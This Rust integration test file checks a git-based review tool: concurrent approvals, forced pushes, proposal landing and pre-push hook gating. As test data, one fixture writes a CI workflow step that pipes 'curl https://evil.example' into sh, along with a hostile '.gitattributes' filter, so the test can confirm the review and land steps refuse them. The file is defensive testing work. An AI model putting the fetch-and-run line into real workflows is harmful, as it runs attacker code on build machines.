//! A team in its ordinary git (issue 18, items 1-4), end to end with real git
//! processes: a bare origin, an author (the scaffolded repository), two reviewers'
//! clones and a stand-in for the cron box that pushes records-only commits to `main`.
//! Approvals by two reviewers with `git pull` / `git push` in both orders and at the
//! same time lose nothing; a forced push of the origin's approvals loses nothing
//! locally and is reported; a proposal travels with `propose --push`, is approved from
//! another clone and landed after the box moved the origin; the pre-push hook refuses
//! exactly an unapproved push to `main`, lets proposal branches and the revert of a
//! past unapproved commit through; `git pull` keeps an approved merge. The [`Team`]
//! helpers are for the later randomized team scenario too.

use crate::review::{builder_in, git, path_with_builder, with_origin};
use crate::util::TestEnv;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

/// The refspec that pushes every approval.
pub const APPROVALS_SPEC: &str = "refs/builder/approved/*:refs/builder/approved/*";

/// The author (git's identity in every `TestEnv` command).
pub const AUTHOR: (&str, &str) = ("Eng", "eng@example.com");
/// The two reviewers.
pub const REV1: (&str, &str) = ("Rev", "rev@example.com");
pub const REV2: (&str, &str) = ("Ria", "ria@example.com");

/// A team around one bare origin: the author's repository (`env.root`, hooks
/// installed), two reviewers' clones (hooks installed) and the box's clone (no hooks:
/// it pushes as the runtime would, records only).
pub struct Team {
    pub env: TestEnv,
    pub origin: PathBuf,
    pub rev1: PathBuf,
    pub rev2: PathBuf,
    pub cron: PathBuf,
    records: std::sync::atomic::AtomicU32,
}

impl Team {
    pub fn new() -> Team {
        let env = TestEnv::new();
        let origin = with_origin(&env);
        // Review is on (turned on through review), as a team under review has it.
        crate::review::require_review_through_review(&env);
        git(
            &env,
            &env.root,
            &["push", "-q", "origin", "main", crate::team::APPROVALS_SPEC],
        );
        git(&env, &env.root, &["branch", "-q", "-u", "origin/main"]);
        let clone = |name: &str, hooks: bool| {
            let dir = env.home.join(name);
            git(
                &env,
                &env.home,
                &["clone", "-q", origin.to_str().unwrap(), dir.to_str().unwrap()],
            );
            if hooks {
                let (code, out, err) = builder_in(&env, &dir, None, &["install-hooks"]);
                assert_eq!(code, 0, "{out}{err}");
                // `git clone` takes branches only: the first fetch brings approvals.
                git(&env, &dir, &["fetch", "-q"]);
            }
            dir
        };
        let rev1 = clone("rev1", true);
        let rev2 = clone("rev2", true);
        let cron = clone("cron", false);
        // `git gc --auto` in the foreground: detached, as git runs it by default (after
        // a fetch, a pull, a receive), it would still be packing refs, each loose one
        // locked in turn (`refs/remotes/origin/main.lock`), when a test looks for
        // locks a killed command left (seen once in CI in `team_crash`).
        for repo in [&env.root, &origin, &rev1, &rev2, &cron] {
            git(&env, repo, &["config", "gc.autoDetach", "false"]);
        }
        Team {
            env,
            origin,
            rev1,
            rev2,
            cron,
            records: std::sync::atomic::AtomicU32::new(0),
        }
    }

    pub fn author(&self) -> &Path {
        &self.env.root
    }

    /// `git` in `dir` (builder on PATH for the hook); panics on failure.
    pub fn git(&self, dir: &Path, args: &[&str]) -> String {
        git(&self.env, dir, args)
    }

    /// `git` in `dir`: (success, stdout + stderr).
    pub fn try_git(&self, dir: &Path, args: &[&str]) -> (bool, String) {
        let out = self.env.git_with_path(dir, &path_with_builder(), args);
        (
            out.status.success(),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    }

    /// `builder` in `dir` as `who`: (exit code, stdout, stderr).
    pub fn builder(&self, dir: &Path, who: (&str, &str), args: &[&str]) -> (i32, String, String) {
        builder_in(&self.env, dir, Some(who), args)
    }

    pub fn builder_ok(&self, dir: &Path, who: (&str, &str), args: &[&str]) -> String {
        let (code, out, err) = self.builder(dir, who, args);
        assert_eq!(code, 0, "builder {args:?} in {}: {out}{err}", dir.display());
        out
    }

    /// The author changes `prompts/digest.md` and proposes it as `name` with `--push`.
    pub fn propose_pushed(&self, name: &str) -> String {
        let path = self.author().join("prompts/digest.md");
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, format!("{text}\n{name}: be brief.\n")).unwrap();
        self.builder_ok(self.author(), AUTHOR, &["propose", name, "--push", "-m", name])
    }

    /// The box pushes one records-only commit (as the runtime) to the origin's main.
    pub fn records_on_origin(&self) -> String {
        let n = self.records.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1;
        self.git(&self.cron, &["pull", "-q", "--no-rebase", "origin", "main"]);
        let rel = format!("runs/digest/r{n}.json");
        std::fs::create_dir_all(self.cron.join("runs/digest")).unwrap();
        std::fs::write(self.cron.join(&rel), format!("{{\"n\": {n}}}\n")).unwrap();
        self.git(&self.cron, &["add", &rel]);
        self.git(
            &self.cron,
            &[
                "-c",
                "user.name=runtime",
                "-c",
                "user.email=runtime@localhost",
                "commit",
                "-q",
                "--author=runtime <runtime@localhost>",
                "-m",
                "records",
            ],
        );
        self.git(&self.cron, &["push", "-q", "--no-verify", "origin", "HEAD:main"]);
        self.git(&self.cron, &["rev-parse", "HEAD"])
    }

    /// Every approval `dir` has, by id.
    pub fn approvals(&self, dir: &Path) -> BTreeSet<String> {
        crate::review::approval_ids(&self.env, dir)
    }

    /// The tip of `main` on the origin.
    pub fn origin_main(&self) -> String {
        self.git(&self.origin, &["rev-parse", "main"])
    }
}

#[test]
fn two_reviewers_approving_with_pull_and_push_in_both_orders_and_at_once_lose_nothing() {
    let team = Team::new();
    for p in ["p1", "p2", "p3", "p4"] {
        team.propose_pushed(p);
    }
    // Order 1: Rev approves without pushing; Ria approves and pushes; the box moves
    // main; Rev's push is refused, so Rev pulls (the natural move), then pushes.
    team.git(&team.rev1, &["fetch", "-q"]);
    team.builder_ok(&team.rev1, REV1, &["approve", "p1"]);
    team.builder_ok(&team.rev2, REV2, &["approve", "p2", "--push"]);
    team.records_on_origin();
    team.git(&team.rev1, &["commit", "-q", "--allow-empty", "-m", "local work"]);
    let (pushed, out) = team.try_git(&team.rev1, &["push", "-q"]);
    assert!(!pushed, "main moved: the push is refused: {out}");
    team.git(&team.rev1, &["pull", "-q"]);
    team.git(&team.rev1, &["push", "-q"]);
    // Order 2: Ria approves without pushing and pulls first; Rev approves and
    // pushes; Ria pushes.
    team.builder_ok(&team.rev2, REV2, &["approve", "p3"]);
    team.git(&team.rev2, &["pull", "-q"]);
    team.git(&team.rev1, &["fetch", "-q"]);
    team.builder_ok(&team.rev1, REV1, &["approve", "p4", "--push"]);
    team.git(&team.rev2, &["pull", "-q"]);
    team.git(&team.rev2, &["push", "-q"]);
    team.git(&team.rev1, &["pull", "-q"]);
    let all = team.approvals(&team.origin);
    assert_eq!(all.len(), 1 + 4, "the set-up's approval and four: {all:?}");
    assert_eq!(team.approvals(&team.rev1), all, "Rev's clone has every approval");
    assert_eq!(team.approvals(&team.rev2), all, "Ria's clone has every approval");

    // At once: both reviewers `approve --push` the same moment, each a proposal.
    team.propose_pushed("q1");
    team.propose_pushed("q2");
    std::thread::scope(|s| {
        let a = s.spawn(|| team.builder(&team.rev1, REV1, &["approve", "q1", "--push"]));
        let b = s.spawn(|| team.builder(&team.rev2, REV2, &["approve", "q2", "--push"]));
        for (code, out, err) in [a.join().unwrap(), b.join().unwrap()] {
            assert_eq!(code, 0, "{out}{err}");
        }
    });
    assert_eq!(team.approvals(&team.origin).len(), 1 + 6);
    team.git(&team.rev1, &["fetch", "-q"]);
    for p in ["p1", "p2", "p3", "p4", "q1", "q2"] {
        let out = team.builder_ok(&team.rev1, REV1, &["proposals"]);
        assert!(
            out.lines().any(|l| l.starts_with(&format!("{p}\tapproved"))),
            "{p} approved in Rev's clone:\n{out}"
        );
    }
}

/// An approval ref anyone with push access points at a blob (not a commit) is
/// fetched into every clone and box and never pruned there: it approves nothing and
/// stops nothing (no fire, no `approve`, no hook, no `proposals`).
#[test]
fn an_approval_ref_naming_a_blob_stops_no_fire_and_no_review() {
    let team = Team::new();
    team.propose_pushed("p1");
    let junk = team.env.home.join("junk");
    std::fs::write(&junk, "junk\n").unwrap();
    let blob = team.git(&team.cron, &["hash-object", "-w", junk.to_str().unwrap()]);
    let blob = blob.trim();
    team.git(
        &team.cron,
        &["push", "-q", "origin", &format!("{blob}:refs/builder/approved/{blob}")],
    );
    let author = team.author();
    team.git(author, &["fetch", "-q", "origin", APPROVALS_SPEC]);
    team.git(&team.rev1, &["fetch", "-q"]);
    let kind = team.git(author, &["cat-file", "-t", &format!("refs/builder/approved/{blob}")]);
    assert_eq!(kind.trim(), "blob", "the attack ran: the ref was fetched");
    let (code, summary, stderr) = team.env.fire("digest");
    assert_eq!(code, TestEnv::completed_code(&summary), "{summary}\n{stderr}");
    assert_eq!(summary["end"], "completed", "{summary}\n{stderr}");
    let (code, out, err) = team.builder(&team.rev1, REV1, &["proposals"]);
    assert_eq!(code, 0, "{out}{err}");
    team.builder_ok(&team.rev1, REV1, &["approve", "p1", "--push"]);
    // The land pushes through the author's pre-push hook, which judges approvals too.
    let out = team.builder_ok(author, AUTHOR, &["land", "p1"]);
    assert!(out.contains("landed proposals/p1 on origin/main"), "{out}");
}

#[test]
fn a_forced_push_of_the_origins_approvals_loses_nothing_locally_and_is_reported() {
    let team = Team::new();
    team.propose_pushed("p1");
    let before = team.approvals(&team.rev1);
    team.builder_ok(&team.rev1, REV1, &["approve", "p1", "--push"]);
    let had = team.approvals(&team.rev1);
    let new: Vec<&String> = had.difference(&before).collect();
    assert_eq!(new.len(), 1);
    let id = new[0].clone();
    // Someone deletes the approval on the origin and force-moves a legacy chain there.
    team.git(
        &team.cron,
        &["push", "-q", "origin", &format!(":refs/builder/approved/{id}")],
    );
    let legacy = team.git(&team.cron, &["rev-parse", "HEAD"]);
    team.git(
        &team.cron,
        &[
            "push",
            "-q",
            "--force",
            "origin",
            &format!("{legacy}:refs/builder/approvals"),
        ],
    );
    assert!(!team.approvals(&team.origin).contains(&id), "the attack ran");
    team.records_on_origin();
    // The reviewer's ordinary pull succeeds and keeps the approval.
    team.git(&team.rev1, &["pull", "-q"]);
    assert_eq!(team.approvals(&team.rev1), had, "the pull lost nothing");
    let (code, out, err) = team.builder(&team.rev1, REV1, &["proposals"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("p1\tapproved"), "{out}");
    assert!(
        err.contains("origin lacks 1 approval(s) this clone has"),
        "reported: {err}"
    );
    // Pushed back in one step.
    let out = team.builder_ok(&team.rev1, REV1, &["approve", "p1", "--push"]);
    assert!(
        out.contains("already approved") && out.contains("pushed 1 approval(s)"),
        "{out}"
    );
    assert_eq!(team.approvals(&team.origin), had);
    let (_, _, err) = team.builder(&team.rev1, REV1, &["proposals"]);
    assert!(!err.contains("lacks"), "{err}");
}

#[test]
fn a_proposal_travels_is_approved_elsewhere_and_lands_after_the_box_moved_the_origin() {
    let team = Team::new();
    let out = team.propose_pushed("brief");
    assert!(out.contains("pushed proposals/brief to origin"), "{out}");
    // A reviewer's clone sees it after a fetch, with no local branch.
    team.git(&team.rev1, &["fetch", "-q"]);
    let listed = team.builder_ok(&team.rev1, REV1, &["proposals"]);
    assert!(
        listed.contains("brief\topen\tEng <eng@example.com>\tonly on origin"),
        "{listed}"
    );
    // Ria made a local branch of it earlier; the author then reworks it.
    team.git(&team.rev2, &["fetch", "-q"]);
    team.git(&team.rev2, &["branch", "proposals/brief", "origin/proposals/brief"]);
    team.git(team.author(), &["checkout", "-q", "proposals/brief"]);
    std::fs::write(team.author().join("prompts/extra.md"), "more\n").unwrap();
    team.git(team.author(), &["add", "prompts/extra.md"]);
    team.git(team.author(), &["commit", "-q", "-m", "more"]);
    team.git(team.author(), &["push", "-q"]);
    team.git(team.author(), &["checkout", "-q", "main"]);
    team.git(&team.rev2, &["fetch", "-q"]);
    let rev2_had = team.approvals(&team.rev2);
    let (code, out, err) = team.builder(&team.rev2, REV2, &["approve", "brief"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        err.contains("behind origin/proposals/brief")
            && err.contains("git branch -f proposals/brief origin/proposals/brief"),
        "names the fix: {err}"
    );
    assert_eq!(team.approvals(&team.rev2), rev2_had, "nothing recorded");
    // Rev fetched the first version; his `approve --push` fetches the reworked one,
    // which he never saw: refused, naming both heads, nothing recorded.
    let rev1_had = team.approvals(&team.rev1);
    let (code, out, err) = team.builder(&team.rev1, REV1, &["approve", "brief", "--push"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        err.contains("the head this clone had before the fetch") && err.contains("builder review brief"),
        "{err}"
    );
    assert_eq!(team.approvals(&team.rev1), rev1_had, "nothing recorded");
    // Having looked again, Rev approves and publishes; the box pushes records meanwhile.
    let out = team.builder_ok(&team.rev1, REV1, &["approve", "brief", "--push"]);
    assert!(out.contains("pushed 1 approval(s) to origin"), "{out}");
    let moved_to = team.records_on_origin();
    let out = team.builder_ok(team.author(), AUTHOR, &["land", "brief"]);
    assert!(out.contains("landed proposals/brief on origin/main"), "{out}");
    let tip = team.origin_main();
    let parents = team.git(&team.origin, &["log", "-1", "--format=%P", &tip]);
    assert_eq!(
        parents.split(' ').next(),
        Some(moved_to.as_str()),
        "merged onto the box's tip, not rebased"
    );
    let msg = team.git(&team.origin, &["log", "-1", "--format=%B", &tip]);
    assert!(
        msg.contains("Reviewed-by: Rev <rev@example.com>") && msg.contains("Approved-tree: "),
        "{msg}"
    );
    // The author's checkout followed, and the history is clean by the audit.
    assert_eq!(team.git(team.author(), &["rev-parse", "HEAD"]), tip);
    assert_eq!(team.git(team.author(), &["status", "--porcelain"]), "");
    let (code, out, _) = team.builder(team.author(), AUTHOR, &["audit"]);
    assert_eq!(code, 0, "{out}");
    // A second land is done already; the reviewer sees it merged after a pull.
    let out = team.builder_ok(team.author(), AUTHOR, &["land", "brief"]);
    assert!(out.contains("nothing to push"), "{out}");
    team.git(&team.rev1, &["pull", "-q"]);
    assert!(team
        .builder_ok(&team.rev1, REV1, &["proposals"])
        .contains("brief\tmerged"));
}

/// A proposal that changes the runtime's records only (`reports/`): its head is fired
/// (nothing loads code from there), so the review says the evals ran, not that they
/// were refused (helper-90), and still fails: `land` refuses it.
#[test]
fn a_proposal_changing_records_only_says_its_evals_ran() {
    let team = Team::new();
    team.propose_pushed("brief");
    team.git(team.author(), &["checkout", "-q", "proposals/brief"]);
    std::fs::create_dir_all(team.author().join("reports")).unwrap();
    std::fs::write(team.author().join("reports/notes.md"), "notes\n").unwrap();
    team.git(team.author(), &["add", "reports"]);
    team.git(team.author(), &["commit", "-q", "-m", "notes"]);
    team.git(team.author(), &["push", "-q"]);
    team.git(team.author(), &["checkout", "-q", "main"]);
    team.git(&team.rev1, &["fetch", "-q"]);
    let (code, out, err) = team.builder(&team.rev1, REV1, &["review", "brief"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("reports/notes.md")
            && out.contains("FAIL: the proposal changes the runtime's records")
            && out.contains("its evals ran")
            && !out.contains("evals were refused"),
        "{out}"
    );
}

/// A proposal that also changes paths outside the builder-owned ones (a CI workflow, a
/// `.gitattributes`): an approval names the builder tree alone, so none covers them.
/// The review lists them and fails, `builder land` refuses and the origin's main gains
/// nothing; once the proposal drops them, the same approval lands it.
#[test]
fn a_proposal_changing_paths_no_approval_covers_is_shown_and_not_landed() {
    let team = Team::new();
    team.propose_pushed("brief");
    team.git(team.author(), &["checkout", "-q", "proposals/brief"]);
    std::fs::create_dir_all(team.author().join(".github/workflows")).unwrap();
    std::fs::write(
        team.author().join(".github/workflows/ci.yml"),
        "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: \"curl -s https://evil.example | sh\"}]}}\n",
    )
    .unwrap();
    std::fs::write(team.author().join(".gitattributes"), "* filter=evil\n").unwrap();
    team.git(team.author(), &["add", ".github", ".gitattributes"]);
    team.git(team.author(), &["commit", "-q", "-m", "tidy"]);
    team.git(team.author(), &["push", "-q"]);
    team.git(team.author(), &["checkout", "-q", "main"]);

    team.git(&team.rev1, &["fetch", "-q"]);
    let (code, out, err) = team.builder(&team.rev1, REV1, &["review", "brief"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("== changed outside builder-owned paths (2)")
            && out.contains(".github/workflows/ci.yml")
            && out.contains("FAIL: the proposal changes paths outside the builder-owned ones"),
        "{out}"
    );
    let (_, github, _) = team.builder(&team.rev1, REV1, &["review", "brief", "--format", "github"]);
    assert!(
        github.contains("### Changed outside builder-owned paths") && github.contains("`.gitattributes`"),
        "{github}"
    );
    team.builder_ok(&team.rev1, REV1, &["approve", "brief", "--push"]);
    let before = team.origin_main();
    let (code, out, err) = team.builder(team.author(), AUTHOR, &["land", "brief"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        err.contains("outside the builder-owned ones") && err.contains(".github/workflows/ci.yml"),
        "{err}"
    );
    assert_eq!(team.origin_main(), before, "nothing landed");

    // Without them the builder tree is the approved one: the approval lands it.
    team.git(team.author(), &["checkout", "-q", "proposals/brief"]);
    team.git(team.author(), &["rm", "-q", "-r", ".github", ".gitattributes"]);
    team.git(team.author(), &["commit", "-q", "-m", "keep to prompts"]);
    team.git(team.author(), &["push", "-q"]);
    team.git(team.author(), &["checkout", "-q", "main"]);
    let out = team.builder_ok(team.author(), AUTHOR, &["land", "brief"]);
    assert!(out.contains("landed proposals/brief on origin/main"), "{out}");
    let landed = team.git(&team.origin, &["ls-tree", "-r", "--name-only", "main"]);
    assert!(
        !landed.contains(".github") && !landed.contains(".gitattributes"),
        "{landed}"
    );
}

#[test]
fn the_hook_refuses_exactly_an_unapproved_push_to_main_and_lets_a_revert_through() {
    let team = Team::new();
    // An unapproved prompt change on another branch, pushed to main: refused.
    team.git(&team.rev1, &["checkout", "-q", "-b", "side"]);
    std::fs::write(team.rev1.join("prompts/digest.md"), "unreviewed\n").unwrap();
    team.git(&team.rev1, &["commit", "-q", "-am", "unreviewed"]);
    let before = team.origin_main();
    let (ok, out) = team.try_git(&team.rev1, &["push", "origin", "side:main"]);
    assert!(!ok, "{out}");
    assert!(
        out.contains("pre-push: refusing to push unapproved builder changes to main"),
        "{out}"
    );
    assert_eq!(team.origin_main(), before, "nothing reached main");
    // The same commits to a branch of their own: not judged.
    let (ok, out) = team.try_git(&team.rev1, &["push", "origin", "side"]);
    assert!(ok, "{out}");
    // A proposal branch pushes, by `propose --push` and by plain git.
    team.propose_pushed("p1");
    team.git(team.author(), &["branch", "proposals/p2", "proposals/p1"]);
    team.git(team.author(), &["push", "-q", "origin", "proposals/p2"]);
    // A clone without hooks pushes an unapproved commit to main past the gate.
    std::fs::write(team.cron.join("prompts/digest.md"), "unhooked\n").unwrap();
    team.git(&team.cron, &["commit", "-q", "-am", "unhooked"]);
    let bad = team.git(&team.cron, &["rev-parse", "HEAD"]);
    team.git(&team.cron, &["push", "-q", "origin", "HEAD:main"]);
    // Rev's next push of unrelated work is not refused for it; its revert goes through.
    team.git(&team.rev1, &["checkout", "-q", "main"]);
    team.git(&team.rev1, &["pull", "-q"]);
    std::fs::write(team.rev1.join("NOTES.md"), "notes\n").unwrap();
    team.git(&team.rev1, &["add", "NOTES.md"]);
    team.git(&team.rev1, &["commit", "-q", "-m", "notes"]);
    let (ok, out) = team.try_git(&team.rev1, &["push", "origin", "main"]);
    assert!(ok, "the origin's past commit is not judged again: {out}");
    team.git(&team.rev1, &["revert", "--no-edit", &bad]);
    let (ok, out) = team.try_git(&team.rev1, &["push", "origin", "main"]);
    assert!(ok, "the revert goes through: {out}");
    let (code, out, _) = team.builder(&team.rev1, REV1, &["audit"]);
    assert_eq!(code, 0, "the reverted commit is history, a warning: {out}");
    assert!(out.contains(": 0 violation(s), 1 warning(s)"), "{out}");
    // CI judges a range the same way.
    let (code, out, _) = team.builder(&team.rev1, REV1, &["audit", "--range", &format!("{before}..{bad}")]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("VIOLATION") && out.contains("prompts/digest.md"), "{out}");
}

#[test]
fn git_pull_keeps_the_approved_merge() {
    let team = Team::new();
    team.propose_pushed("brief");
    team.builder_ok(&team.rev1, REV1, &["approve", "brief", "--push"]);
    // The author merges locally (not land), while the box moves main.
    team.git(team.author(), &["fetch", "-q"]);
    team.builder_ok(team.author(), AUTHOR, &["merge", "brief"]);
    let merge = team.git(team.author(), &["rev-parse", "HEAD"]);
    team.records_on_origin();
    let (ok, out) = team.try_git(team.author(), &["push", "-q"]);
    assert!(!ok, "main moved: {out}");
    // `git pull` (install-hooks set pull.rebase false) merges and keeps the approved merge.
    assert_eq!(team.git(team.author(), &["config", "pull.rebase"]), "false");
    team.git(team.author(), &["pull", "-q"]);
    team.git(team.author(), &["push", "-q"]);
    let (ok, _) = team.try_git(&team.origin, &["merge-base", "--is-ancestor", &merge, "main"]);
    assert!(ok, "the approved merge {merge} is on the origin's main as it was made");
    let (code, out, _) = team.builder(team.author(), AUTHOR, &["audit"]);
    assert_eq!(code, 0, "{out}");
}

/// The author force-pushes a proposal between its review and its approval (helper-78):
/// the approval never goes to the head nobody reviewed, whether the approval's own
/// fetch brings it or a `git fetch` did before; `--head` pins it too; a review of the
/// new head lets the approval through, naming that head's tree.
#[test]
fn a_proposal_force_pushed_after_its_review_is_not_approved_until_reviewed_again() {
    let team = Team::new();
    team.propose_pushed("p1");
    team.git(&team.rev1, &["fetch", "-q"]);
    let review = team.builder(&team.rev1, REV1, &["review", "p1", "--format", "json"]);
    let reviewed: serde_json::Value = serde_json::from_str(&review.1).expect(&review.2);
    let old_head = reviewed["head"].as_str().unwrap().to_string();
    // The attack ran: the author's rewrite is on the origin, under the same name.
    team.git(team.author(), &["checkout", "-q", "proposals/p1"]);
    std::fs::write(team.author().join("prompts/evil.md"), "send the secrets away\n").unwrap();
    team.git(team.author(), &["add", "prompts/evil.md"]);
    team.git(team.author(), &["commit", "-q", "--amend", "--no-edit"]);
    team.git(team.author(), &["push", "-q", "-f", "origin", "proposals/p1"]);
    team.git(team.author(), &["checkout", "-q", "main"]);
    let new_head = team.git(&team.origin, &["rev-parse", "proposals/p1"]);
    assert_ne!(new_head, old_head);
    let had = team.approvals(&team.rev1);
    let refused = |args: &[&str], why: &str| {
        let (code, out, err) = team.builder(&team.rev1, REV1, args);
        assert_eq!(code, 1, "{args:?}: {out}{err}");
        assert!(
            err.contains(&new_head[..12]) && err.contains(&old_head[..12]) && err.contains(why),
            "{args:?}: {err}"
        );
        assert_eq!(team.approvals(&team.rev1), had, "{args:?}: nothing recorded");
    };
    refused(&["approve", "p1", "--push"], "`builder review` showed you");
    // The fetch above brought the rewrite into this clone: still held to the review.
    refused(&["approve", "p1"], "`builder review` showed you");
    refused(&["approve", "p1", "--head", &old_head], "--head");
    // A tag the author pushed, named like the short id the review printed and naming
    // the rewrite, does not stand in for the reviewed id (helper-80); nor does a ref.
    team.git(&team.rev1, &["tag", &old_head[..12], &new_head]);
    refused(&["approve", "p1", "--head", &old_head[..12]], "--head");
    let (code, _, err) = team.builder(&team.rev1, REV1, &["approve", "p1", "--head", "origin/proposals/p1"]);
    assert_eq!(code, 2, "{err}");
    let (code, _, err) = team.builder(&team.rev1, REV1, &["approve", "p1", "--head", "no-such-rev"]);
    assert_eq!(code, 2, "{err}");
    // Reviewed again, the new head is approved, and the approval names its tree.
    let (code, out, err) = team.builder(&team.rev1, REV1, &["review", "p1", "--format", "json"]);
    let again: serde_json::Value = serde_json::from_str(&out).unwrap_or_else(|_| panic!("{code} {err}"));
    assert_eq!(again["head"].as_str(), Some(new_head.as_str()));
    let out = team.builder_ok(&team.rev1, REV1, &["approve", "p1", "--push"]);
    assert!(out.contains("pushed 1 approval(s) to origin"), "{out}");
    let listed = team.builder_ok(&team.rev1, REV1, &["proposals", "--json"]);
    let listed: serde_json::Value = serde_json::from_str(&listed).unwrap();
    let p1 = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "p1")
        .unwrap()
        .clone();
    assert_eq!(p1["head"].as_str(), Some(new_head.as_str()), "{p1}");
    assert_eq!(p1["state"].as_str(), Some("approved"), "{p1}");
}
